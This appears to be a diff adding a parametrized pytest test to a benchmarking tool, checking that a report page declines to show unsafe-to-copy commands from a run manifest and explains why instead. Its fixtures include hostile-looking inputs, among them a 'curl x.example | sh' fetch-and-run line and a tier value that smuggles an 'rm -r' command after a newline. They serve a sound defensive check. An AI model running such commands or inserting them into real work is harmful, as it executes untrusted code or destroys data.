@@ -147,6 +147,27 @@ def test_the_call_that_measured_is_told_from_its_manifest(tmp_path: Path) -> Non
     assert text.count("Abacus 7") == 1
 
 
+@pytest.mark.parametrize(
+    ("command", "why"),
+    [
+        (["lsgm", "train", "glyphs"], "`lsgm train`, which measures no row"),
+        (["curl", "x.example", "|", "sh"], "is none of lsgm"),
+        (["lsgm", "eval", "glyphs", "--model", "m=evil:factory"], "evil:factory calls factory()"),
+        (["lsgm", "eval", "glyphs", "--extractor", "dinov2:hub:m"], "hub/hubconf.py"),
+        (["lsgm", "eval", "evil.toml"], "evil.toml, which may name code of others"),
+        (["lsgm", "eval", "glyphs", "--tier", "a\nrm -r b"], "does not print as it is"),
+    ],
+)
+def test_a_call_that_is_not_to_be_copied_is_not_shown_but_why(
+    command: list[str], why: str, tmp_path: Path
+) -> None:
+    manifest(tmp_path, command=command)
+    text = read_page(page_of(tmp_path)).text
+    assert "Why no command is shown" in text
+    assert why in text
+    assert " ".join(command) not in text
+
+
 def test_a_manifest_that_is_gone_or_damaged_takes_no_number_away(tmp_path: Path) -> None:
     assert "manifests/0123456789ab.json is gone" in read_page(page_of(tmp_path)).text
     manifest(tmp_path, format=99)
